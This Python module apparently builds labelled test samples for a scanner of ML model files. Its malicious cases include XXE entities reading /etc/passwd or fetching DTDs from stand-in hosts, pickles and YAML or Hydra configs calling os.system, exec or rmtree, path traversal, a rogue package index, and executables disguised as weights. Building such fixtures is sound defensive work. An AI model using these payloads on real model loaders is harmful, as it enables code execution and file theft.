"""The many small formats."""
import gzip
import hashlib
import json
import lzma
import struct
import zlib

from common import ECHO, words
from pickleasm import Call, G, dumps
from protow import f
from zipw import Member, simple, tarfile, zipfile
from f_tf import Flat
from f_gguf import gguf, meta as gmeta, TS
from f_hf import EVIL_PY, GOOD_PY
from f_pickle_benign import est

FAM = "misc"


def mp(v):
    """MessagePack."""
    if v is None:
        return b"\xc0"
    if isinstance(v, bool):
        return b"\xc3" if v else b"\xc2"
    if isinstance(v, int):
        return bytes([v]) if 0 <= v < 128 else b"\xd3" + struct.pack(">q", v)
    if isinstance(v, float):
        return b"\xcb" + struct.pack(">d", v)
    if isinstance(v, str):
        b = v.encode()
        return (bytes([0xA0 | len(b)]) if len(b) < 32 else b"\xda" + struct.pack(">H", len(b))) + b
    if isinstance(v, bytes):
        return b"\xc6" + struct.pack(">I", len(v)) + v
    if isinstance(v, (list, tuple)):
        return b"\xdc" + struct.pack(">H", len(v)) + b"".join(mp(x) for x in v)
    if isinstance(v, dict):
        return b"\xde" + struct.pack(">H", len(v)) + b"".join(mp(k) + mp(x) for k, x in v.items())
    if isinstance(v, Ext):
        return b"\xc9" + struct.pack(">Ib", len(v.data), v.code) + v.data
    raise TypeError(v)


class Ext:
    def __init__(self, code, data):
        self.code, self.data = code, data


def num7(n):
    if n < 0x80:
        return bytes([n])
    if n < 0x4000:
        return bytes([0x80 | n >> 8, n & 255])
    return b"\xe0" + struct.pack("<I", n)[:3]


def sevenz(name, data, comp=False):
    if comp:
        flt = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]
        packed = lzma.compress(data, format=lzma.FORMAT_RAW, filters=flt)
        coder = b"\x23\x03\x01\x01\x05" + lzma._encode_filter_properties(flt[0])
    else:
        packed, coder = data, b"\x01\x00"
    nm = b"\0" + name.encode("utf-16-le") + b"\0\0"
    h = b"\x01\x04\x06" + num7(0) + b"\x01\x09" + num7(len(packed)) + b"\x00\x07\x0b\x01\x00\x01" + coder + b"\x0c" + num7(len(data)) + b"\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00\x08\x00\x00\x05\x01\x11" + num7(len(nm)) + nm + b"\x00\x00"
    start = struct.pack("<QQI", len(packed), len(h), zlib.crc32(h))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + h


def rchar(x):
    return struct.pack(">II", 0x00040009, len(x)) + x.encode()


def rds(body, comp=True):
    b = b"X\n" + struct.pack(">III", 2, 0x00040301, 0x00020300) + body
    return gzip.compress(b, mtime=0) if comp else b


def relf(n=64):
    return b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0) + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x80 + n, 0x80 + n, 0x1000) + b"\xb8\x3c\0\0\0\x31\xff\x0f\x05".ljust(8 + n, b"\x90")


def pe():
    return b"MZ" + b"\x90\0" * 29 + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 240, 0x22) + struct.pack("<H", 0x20B) + b"\0" * 300


def build(s):
    rng = s.rng(FAM)
    ev = lambda: Call(G(*rng.choice([("os", "system"), ("posix", "system"), ("builtins", "exec"), ("subprocess", "getoutput"), ("runpy", "run_module")])), rng.choice(ECHO))
    pk = lambda: dumps(ev(), rng.choice([0, 2, 3, 4]))

    def add(label, fmt, name, data, tech, thr=None):
        s.add(FAM, label, name, data.encode() if isinstance(data, str) else data, tech, thr, fmt=fmt)
    # ---- XML
    pm = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header><Application name="x"/></Header><DataDictionary numberOfFields="1"><DataField name="y" optype="continuous" dataType="double"/></DataDictionary><RegressionModel functionName="regression"><RegressionTable intercept="1.0">%s</RegressionTable></RegressionModel></PMML>'
    for i, dt in enumerate(['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE x SYSTEM "http://192.0.2.6/x.dtd">', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.6/p.dtd"> %p;]>', '<!DOCTYPE x PUBLIC "-//A//B" "http://example.invalid/x.dtd">', '<!DOCTYPE x [<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>']):
        add("malicious", "pmml", "model.pmml", '<?xml version="1.0"?>\n' + dt + pm % "&e;", "PMML: external entity no. %d" % i, "xxe")
        add("malicious", "openvino", "model.xml", '<?xml version="1.0"?>\n' + dt + '<net name="x" version="11"><layers><layer id="0" name="a" type="Parameter" version="opset1"/></layers><edges/></net>', "OpenVINO: external entity no. %d" % i, "xxe")
    add("malicious", "pmml", "model.pmml", ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + pm % "&e;").encode("utf-16"), "PMML: external entity in UTF-16", "xxe")
    laughs = '<!DOCTYPE l [<!ENTITY a "lol">' + "".join('<!ENTITY %s "%s">' % (chr(98 + i), ("&%s;" % chr(97 + i)) * 10) for i in range(9)) + "]>"
    add("suspicious", "pmml", "model.pmml", '<?xml version="1.0"?>' + laughs + pm % "&j;", "PMML: billion laughs", "dos")
    net = '<?xml version="1.0"?><net name="x" version="11"><layers>%s</layers><edges/></net>'
    lay = '<layer id="0" name="in" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port></output></layer>'
    add("suspicious", "openvino", "model.xml", net % (lay + '<layer id="1" name="c" type="MyOp" version="extension" library="/tmp/libcase.so"/>'), "OpenVINO: library attribute", "code-exec")
    add("suspicious", "openvino", "model.xml", net % (lay + '<layer id="1" name="c" type="Custom"><data implementation="../plugin.dll"/></layer>'), "OpenVINO: implementation attribute", "code-exec")
    for i in range(3):
        add("benign", "pmml", "model.pmml", '<?xml version="1.0" encoding="UTF-8"?>\n' + pm % ('<NumericPredictor name="x%d" coefficient="%f"/>' % (i, rng.random())), "PMML: regression")
    add("benign", "pmml", "tree.pmml", '<?xml version="1.0"?><PMML version="4.3"><Header description="eval &amp; exec &#x41; os.system"/><TreeModel functionName="classification"><Node score="a"><True/></Node></TreeModel></PMML>', "PMML: tree with entities for characters")
    s.add_dir(FAM, "benign", {"model.xml": net % (lay + '<layer id="1" name="relu" type="ReLU" version="opset1"><input><port id="0"/></input></layer>'), "model.bin": rng.randbytes(400)}, "OpenVINO: pair of files", fmt="openvino")
    # ---- boosters
    xj = lambda **k: json.dumps({"learner": {"attributes": {}, "feature_names": ["os.system", "b"], "feature_types": [], "gradient_booster": {"model": {"gbtree_model_param": {"num_trees": "1"}, "trees": [{"base_weights": [0.1, 0.2], "left_children": [-1], "right_children": [-1], "split_conditions": [0.5]}]}, "name": "gbtree"}, "objective": {"name": "reg:squarederror"}}, "version": [2, 0, 3], **k})
    add("benign", "xgboost", "model.json", xj(), "XGBoost JSON")
    add("benign", "xgboost", "model.ubj", b"{L" + struct.pack(">q", 7) + b"learner{L" + struct.pack(">q", 10) + b"attributes{}L" + struct.pack(">q", 7) + b"weights[$d#L" + struct.pack(">q", 3) + struct.pack(">3f", .1, .2, .3) + b"}L" + struct.pack(">q", 7) + b"version[#L" + struct.pack(">q", 3) + b"i\x02i\x00i\x03}", "XGBoost UBJSON")
    add("benign", "xgboost", "model.bst", b"binf" + struct.pack("<fIi", 0.5, 4, 0) + rng.randbytes(300), "XGBoost old binary")
    lg = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\nobjective=binary sigmoid:1\nfeature_names=eval exec\nfeature_infos=[0:1] [0:1]\ntree_sizes=100\n\nTree=0\nnum_leaves=2\nnum_cat=0\nsplit_feature=0\nthreshold=0.5\nleaf_value=0.1 -0.1\n\n\nend of trees\n\nfeature_importances:\neval=1\n\nparameters:\n[boosting: gbdt]\n[data: ../data/train.csv]\nend of parameters\n\npandas_categorical:null\n"
    add("benign", "lightgbm", "model.txt", lg, "LightGBM text")
    add("benign", "lightgbm", "lgb.model", lg * 3, "LightGBM text, longer")
    add("benign", "catboost", "model.cbm", b"CBM1" + struct.pack("<I", 400) + rng.randbytes(400), "CatBoost binary")
    add("benign", "catboost", "model.json", json.dumps({"model_info": {"params": {"loss_function": {"type": "RMSE"}}}, "oblivious_trees": [{"leaf_values": [0.1, 0.2], "splits": []}]}), "CatBoost JSON")
    for n in ("model.json", "model.ubj", "model.txt", "model.cbm", "booster.bst", "lgb.model", "model.onnx", "model.xml", "MLmodel", "weights.params", "model.mlmodel", "model.pdparams", "model.pdmodel", "model.msgpack", "net.t7", "model.pte", "model.trt", "model.engine", "model.rknn", "model.nemo", "model.skops", "model.mar", "model.RDS", "vectors.kv", "index.faiss", "spacy.bin", "model.lgb", "metadata.yaml", "model.pmml"):
        add("malicious", "pickle", n, pk(), "pickle under the name %s" % n, "code-exec")
    add("suspicious", "xgboost", "model.json", b'{"learner":' + b"[" * 20000 + b"]" * 20000 + b"}", "JSON nested 20,000 deep", "dos")
    # Paddle
    op = lambda t: f(4, f(3, t) + f(1, f(1, "X") + f(2, "x")))
    prog = lambda *ops: f(1, f(1, 0) + f(2, -1) + f(3, f(1, "x")) + b"".join(op(t) for t in ops)) + f(4, f(1, 0))
    add("malicious", "paddle", "__model__", prog("feed", "py_func", "fetch"), "Paddle: py_func", "code-exec")
    add("malicious", "paddle", "inference.pdmodel", prog("feed", "conv2d", "py_func", "fetch"), "Paddle: py_func in a pdmodel", "code-exec")
    add("benign", "paddle", "inference.pdmodel", prog("feed", "conv2d", "batch_norm", "relu", "fetch"), "Paddle: ordinary operators")
    add("benign", "paddle", "model.pdparams", dumps({"linear.weight": Call(G("numpy.core.multiarray", "_reconstruct"), G("numpy", "ndarray"), (0,), b"b"), "StructuredToParameterName@@": {"linear.weight": "linear_0.w_0"}}, 2), "Paddle: parameters")
    # CoreML
    lay_c = f(1, "custom") + f(2, "x") + f(3, "y") + f(500, f(10, "EvilLayer") + f(40, "does things"))
    add("suspicious", "coreml", "model.mlmodel", f(1, 4) + f(2, f(1, f(1, "x"))) + f(500, f(1, lay_c)), "CoreML: custom layer", "custom-op")
    add("suspicious", "coreml", "model.mlmodel", f(1, 4) + f(2, f(1, f(1, "x"))) + f(555, f(10, "EvilModel")), "CoreML: custom model", "custom-op")
    add("benign", "coreml", "model.mlmodel", f(1, 4) + f(2, f(1, f(1, "x") + f(2, "input")) + f(100, f(1, "note") + f(2, "1.0"))) + f(500, f(1, f(1, "ip") + f(2, "x") + f(3, "y") + f(140, f(1, 4) + f(2, 2) + f(20, f(1, rng.randbytes(32)))))), "CoreML: inner product")
    # MXNet
    mx = lambda op, **a: json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": op, "name": "n", "attrs": a, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10700]}})
    add("suspicious", "mxnet", "model-symbol.json", mx("Custom", op_type="evil"), "MXNet: Custom operator", "custom-op")
    add("suspicious", "mxnet", "net-symbol.json", mx("_Native", info="0x0"), "MXNet: native operator", "custom-op")
    add("benign", "mxnet", "model-symbol.json", mx("FullyConnected", num_hidden="10"), "MXNet: FullyConnected")
    add("benign", "mxnet", "model-0000.params", struct.pack("<QQQ", 0x112, 0, 0) + rng.randbytes(200), "MXNet: parameters")
    # msgpack
    nd = lambda: Ext(1, mp([[2, 2], "float32", rng.randbytes(16)]))
    add("benign", "flax", "flax_model.msgpack", mp({"params": {"Dense_0": {"kernel": nd(), "bias": nd()}, "scale": 1.5, "name": "os.system"}}), "flax: parameters")
    add("benign", "flax", "checkpoint_100", mp({"step": 100, "params": {"w": nd()}, "opt_state": {"0": {"mu": nd(), "count": 3}}}), "flax: checkpoint without extension")
    add("suspicious", "flax", "flax_model.msgpack", mp({"params": {"w": Ext(99, dumps([ev(), "x" * 40], 2))}}), "flax: extension type that holds a pickle", "code-exec")
    # ---- MLflow
    ml = lambda **k: "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: %s\n    model_path: %s\n    predict_fn: predict\n    python_version: 3.10.12\n%s  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.4.2\nmlflow_version: 2.12.1\nmodel_uuid: 6d0c1f7d8f3d4a0c9a3b1c2d3e4f5a6b\nutc_time_created: '2024-05-01 10:00:00.000000'\n" % (k.get("loader", "mlflow.sklearn"), k.get("path", "model.pkl"), k.get("more", ""))
    good_pk = dumps(est("sklearn.linear_model._base.LinearRegression", fit_intercept=True, n_jobs=None), 4)
    D = lambda label, files, tech, thr=None, fmt="mlflow": s.add_dir(FAM, label, files, tech, thr, fmt=fmt)
    mlf = lambda m, **x: {"MLmodel": m, "model.pkl": good_pk, "conda.yaml": "channels: [conda-forge]\ndependencies:\n- python=3.10\n- pip:\n  - mlflow\n  - scikit-learn==1.4.2\nname: mlflow-env\n", "requirements.txt": "mlflow==2.12.1\nscikit-learn==1.4.2\n", **x}
    for lm in ("os", "subprocess", "evil_loader", "builtins", "pty", "code.loader"):
        D("malicious" if lm in ("os", "subprocess", "builtins", "pty") else "suspicious", mlf(ml(loader=lm)), "MLflow: loader_module %s" % lm, "code-exec")
    D("malicious", mlf(ml(loader="my_loader", more="    code: code\n"), **{"code/my_loader.py": EVIL_PY[0]}), "MLflow: own loader with harmful code", "code-exec")
    for p in ("../../../etc/passwd", "/etc/passwd", "..\\..\\x", "data/../../../x"):
        D("malicious", mlf(ml(path=p)), "MLflow: model_path %s" % p, "path-traversal")
    D("malicious", mlf(ml(more="    code: ../../../tmp/code\n")), "MLflow: code path leaves", "path-traversal")
    D("malicious", mlf(ml(more="    data: /etc\n")), "MLflow: data path absolute", "path-traversal")
    D("malicious", mlf(ml(), **{"model.pkl": pk()}), "MLflow: harmful model.pkl", "code-exec")
    D("malicious", mlf(ml(), **{"python_model.pkl": pk(), "artifacts/x.bin": pk()}), "MLflow: harmful artifact", "code-exec")
    D("malicious", mlf("!!python/object/apply:os.system ['echo case']\n"), "MLflow: YAML tag", "code-exec")
    for lm in ("mlflow.sklearn", "mlflow.pyfunc.model", "mlflow.xgboost", "mlflow.pytorch"):
        D("benign", mlf(ml(loader=lm)), "MLflow: %s" % lm)
    # ---- NeMo and Hydra
    nemo = lambda tgt, extra="": "sample_rate: 16000\ntarget: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\nencoder:\n  _target_: %s\n  feat_in: 80\n%snemo_version: 1.22.0\n" % (tgt, extra)
    for t in ("os.system", "subprocess.Popen", "builtins.eval", "shutil.rmtree", "builtins.exec", "importlib.import_module", "pickle.loads", "hydra.utils.instantiate", "posix.system", "torch.load"):
        x = nemo(t, "  command: echo case\n")
        k = rng.randrange(3)
        if t == "hydra.utils.instantiate":
            x = nemo("nemo.x.Y", "  inner:\n    _target_: subprocess.call\n    args: [echo]\n")
        if k == 0:
            add("malicious", "nemo", "model.nemo", tarfile([("./model_config.yaml", x), ("./model_weights.ckpt", rng.randbytes(60))]), "NeMo: _target_ %s" % t, "code-exec")
        elif k == 1:
            add("malicious", "nemo", "model.nemo", gzip.compress(tarfile([("model_config.yaml", x)]), mtime=0), "NeMo, gzip: _target_ %s" % t, "code-exec")
        else:
            add("malicious", "hydra", rng.choice(["config.yaml", "model_config.yaml", "hparams.yml"]), x, "Hydra: _target_ %s" % t, "code-exec")
    add("malicious", "hydra", "config.json", json.dumps({"model": {"_target_": "os.system", "command": "echo"}}), "Hydra JSON: _target_ os.system", "code-exec")
    add("malicious", "hydra", "config.yaml", "callbacks:\n- _target_: pytorch_lightning.callbacks.EarlyStopping\n- {_target_: subprocess.run, args: [echo]}\n", "Hydra: harmful target in a flow mapping", "code-exec")
    add("malicious", "hydra", "config.yaml", "x: &a\n  _target_: os.popen\ny:\n  <<: *a\n  cmd: echo\n", "Hydra: target through an anchor", "code-exec")
    add("malicious", "nemo", "model.nemo", tarfile([("model_config.yaml", nemo("nemo.collections.asr.modules.ConformerEncoder")), ("model_weights.ckpt", pk())]), "NeMo: harmful weights", "code-exec")
    add("benign", "nemo", "model.nemo", tarfile([("./model_config.yaml", nemo("nemo.collections.asr.modules.ConformerEncoder")), ("./vocab.txt", "eval\n"), ("./weights.bin", rng.randbytes(300))]), "NeMo: ordinary")
    for t in ("nemo.collections.asr.modules.ConvASREncoder", "torch.optim.AdamW", "pytorch_lightning.callbacks.ModelCheckpoint", "transformers.AutoModel.from_pretrained"):
        add("benign" if "from_pretrained" not in t else "review", "hydra", "config.yaml", nemo(t), "Hydra: _target_ %s" % t, None if "from_pretrained" not in t else "network")
    # ---- MAR
    mar = lambda h, code, **x: simple({"MAR-INF/MANIFEST.json": json.dumps({"createdOn": "01/05/2024 10:00:00", "runtime": "python", "model": {"modelName": "m", "serializedFile": "model.pt", "handler": h, "modelVersion": "1.0"}, "archiverVersion": "0.9.0"}), **({"handler.py": code} if code else {}), **x}, 8)
    gh = "import torch\nfrom ts.torch_handler.base_handler import BaseHandler\n\n\nclass Handler(BaseHandler):\n    def preprocess(self, data):\n        return torch.as_tensor([d['body'] for d in data])\n"
    for i in (0, 1, 3, 4):
        add("malicious", "mar", rng.choice(["model.mar", "densenet.mar"]), mar("handler.py", EVIL_PY[i]), "MAR: harmful handler no. %d" % i, "code-exec")
    add("malicious", "mar", "model.mar", mar("../../../tmp/h.py:run", None), "MAR: handler path leaves", "path-traversal")
    add("malicious", "mar", "model.mar", mar("image_classifier", None, **{"model.pt": pk()}), "MAR: harmful weights", "code-exec")
    add("malicious", "mar", "model.mar", mar("image_classifier", None, **{"requirements.txt": "--extra-index-url http://192.0.2.13/simple\nexample-invalid\n", "setup.py": EVIL_PY[0]}), "MAR: harmful setup.py", "code-exec")
    add("benign", "mar", "model.mar", mar("image_classifier", None, **{"index_to_name.json": '{"0": "cat"}'}), "MAR: stock handler")
    add("benign", "mar", "model.mar", mar("handler.py", gh), "MAR: own ordinary handler")
    # ---- skops
    sk = lambda d: simple({"schema.json": json.dumps(d), "1.npy": b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }".ljust(117) + b"\n" + b"\0" * 16})
    node = lambda m, c, l="ObjectNode", **k: {"__class__": c, "__module__": m, "__loader__": l, "__id__": rng.getrandbits(40), **k}
    top = lambda *n: {**node("sklearn.linear_model._base", "LinearRegression", content=node("builtins", "dict", "DictNode", content={"a%d" % i: x for i, x in enumerate(n)})), "protocol": 1, "_skops_version": "0.9"}
    for m, c, l in (("os", "system", "FunctionNode"), ("posix", "system", "FunctionNode"), ("subprocess", "Popen", "TypeNode"), ("builtins", "eval", "FunctionNode"), ("operator", "methodcaller", "OperatorFuncNode"), ("functools", "partial", "PartialNode"), ("shutil", "rmtree", "MethodNode"), ("runpy", "run_path", "FunctionNode"), ("builtins", "exec", "ObjectNode")):
        add("malicious" if m not in ("operator", "functools") else "suspicious", "skops", rng.choice(["model.skops", "pipeline.skops"]), sk(top(node(m, c, l, content={"func": node("os", "system", "FunctionNode", content={"module_path": "os", "function": "system"})} if l == "PartialNode" else {"module_path": m, "function": c}))) if l != "PartialNode" else sk(top(node(m, c, l, content={"func": node("subprocess", "call", "FunctionNode", content="x")}))), "skops: %s %s.%s" % (l, m, c), "code-exec")
    add("malicious", "skops", "model.skops", simple({"schema.json": json.dumps(top()), "x.pkl": pk()}), "skops: harmful extra member", "code-exec")
    for i in range(3):
        add("benign", "skops", "model.skops", sk(top(node("numpy", "ndarray", "NdArrayNode", type="numpy", file="1.npy"), node("builtins", "list", "ListNode", content=[node("builtins", "str", "JsonNode", content='"os.system"')]), node("numpy", "float64", "TypeNode"), node("sklearn.tree._classes", "DecisionTreeClassifier", "ObjectNode", content=node("builtins", "dict", "DictNode", content={})))), "skops: ordinary")
    # ---- R
    real = struct.pack(">II3d", 14, 3, 1.0, 2.0, 3.0)
    strs = lambda *x: struct.pack(">II", 16, len(x)) + b"".join(rchar(i) for i in x)
    call = struct.pack(">I", 6) + struct.pack(">I", 1) + rchar("system") + struct.pack(">I", 2) + strs("echo case") + struct.pack(">I", 254)
    prom = struct.pack(">I", 0x405) + struct.pack(">I", 253) + struct.pack(">I", 252) + call
    for comp in (True, False):
        add("benign", "rds", "model.rds", rds(real, comp), "R: numbers")
        add("benign", "rds", "model.RDS", rds(struct.pack(">II", 19, 2) + real + strs("system", "eval(parse(text='x'))"), comp), "R: list with text")
        add("suspicious", "rds", "model.rds", rds(prom, comp), "R: promise with a call", "code-exec")
        add("suspicious", "rds", "model.rds", rds(struct.pack(">II", 19, 1) + prom, comp), "R: promise inside a list", "code-exec")
        add("suspicious", "rds", "model.rds", rds(struct.pack(">II", 21, 1) + struct.pack(">III", 13, 1, 12) + struct.pack(">I", 1) + call, comp), "R: byte code", "code-exec")
    # ---- torch7
    t7s = lambda x: struct.pack("<i", len(x)) + x.encode()
    add("benign", "torch7", "model.t7", struct.pack("<ii", 4, 1) + t7s("V 1") + t7s("torch.FloatTensor") + struct.pack("<iqqq", 1, 4, 1, 1) + struct.pack("<ii", 4, 2) + t7s("V 1") + t7s("torch.FloatStorage") + struct.pack("<q4f", 4, 1, 2, 3, 4), "torch7: tensor")
    add("suspicious", "torch7", "model.t7", struct.pack("<iii", 3, 1, 1) + struct.pack("<i", 2) + t7s("hook") + struct.pack("<ii", 8, 2) + t7s("\x1bLJ\x01\x02" + "os.execute") + struct.pack("<iii", 3, 3, 0), "torch7: Lua byte code", "code-exec")
    # ---- ExecuTorch
    w = Flat()
    w.b += b"\0\0\0\0ET12"
    p = w.put(("table", [("int", 0)]))
    struct.pack_into("<I", w.b, 0, p)
    add("benign", "executorch", "model.pte", bytes(w.b), "ExecuTorch: smallest program")
    # ---- executables
    mach = b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIIII", 0x01000007, 3, 2, 0, 0, 0, 0) + b"\0" * 200
    for n, d, t in (("model.bin", relf(), "ELF"), ("pytorch_model.bin", relf(300), "ELF"), ("model.pt", relf(), "ELF"), ("weights", relf(99), "ELF"), ("model.pt", pe(), "PE"), ("model.onnx", pe(), "PE"), ("model.safetensors", relf(), "ELF"), ("model.pkl", mach, "Mach-O"), ("model.h5", pe(), "PE"), ("tokenizer.json", relf(), "ELF"), ("model.gguf", relf(), "ELF")):
        add("malicious", "executable", n, d, "%s file under the name %s" % (t, n), "code-exec")
    add("suspicious", "executable", "weights.bin", "#!/bin/sh\necho case\n", "shell script under the name weights.bin", "code-exec")
    add("suspicious", "executable", "model.pt", "#!/usr/bin/env python3\nimport os\nos.system('echo case')\n", "Python script under the name model.pt", "code-exec")
    add("suspicious", "executable", "model.bin", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\0" * 100, "Java class under the name model.bin", "code-exec")
    g = gguf(gmeta(), TS, rng)
    add("suspicious", "llamafile", "model.llamafile", relf() + zipfile([Member("model.gguf", g), Member(".args", b"-m\nmodel.gguf\n")]), "llamafile: ELF and zip", "code-exec")
    add("suspicious", "llamafile", "model.llamafile", b"MZqFpD='\n" + b"\0" * 200 + b"\njartsr='#'\"\n" + zipfile([Member("weights.gguf", g)]), "llamafile: portable executable", "code-exec")
    add("malicious", "llamafile", "model.llamafile", relf() + zipfile([Member("model.gguf", g), Member("x/data.pkl", pk())]), "llamafile: pickle in the zip", "code-exec")
    # ---- 7z
    for i, n in enumerate(("data.pkl", "model/weights", "x.txt", "archive/data.pkl")):
        add("malicious", "7z", rng.choice(["model.7z", "model.pt", "pytorch_model.bin"]), sevenz(n, pk(), bool(i % 2)), "7z with a pickle in %s" % n, "code-exec")
    add("malicious", "7z", "model.pth", sevenz("archive/data.pkl", dumps(ev(), 2)[:-1] + b"\xff\xff", True), "7z with a pickle that breaks after the payload", "code-exec")
    add("benign", "7z", "data.7z", sevenz("notes.txt", b"os.system in a text file\n" * 20, True), "7z with text")
    add("benign", "7z", "data.7z", sevenz("a.pkl", dumps({"a": [1, 2]}, 4)), "7z with a harmless pickle")
    # ---- OCI
    layer = gzip.compress(tarfile([("app/model.pkl", pk()), ("app/.wh.old", b"")]), mtime=0)
    good_layer = gzip.compress(tarfile([("app/config.json", b"{}"), ("app/weights.bin", rng.randbytes(100))]), mtime=0)
    for lab, lay in (("malicious", layer), ("benign", good_layer)):
        h = hashlib.sha256(lay).hexdigest()
        man = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": "sha256:" + h, "size": len(lay)}]})
        mh = hashlib.sha256(man.encode()).hexdigest()
        s.add_dir(FAM, lab, {"oci-layout": '{"imageLayoutVersion": "1.0.0"}', "index.json": json.dumps({"schemaVersion": 2, "manifests": [{"digest": "sha256:" + mh, "size": len(man)}]}), "blobs/sha256/" + mh: man, "blobs/sha256/" + h: lay}, "OCI image layout" + (" with a harmful pickle" if lab == "malicious" else ""), "code-exec" if lab == "malicious" else None, fmt="oci")
    # ---- TensorRT
    add("review", "tensorrt", "model.engine", b"ftrt\x00\x00\x00\x00" + rng.randbytes(200) + b"EvilPlugin_TRT\x00" + rng.randbytes(60), "TensorRT: engine with a plugin name", "custom-op")
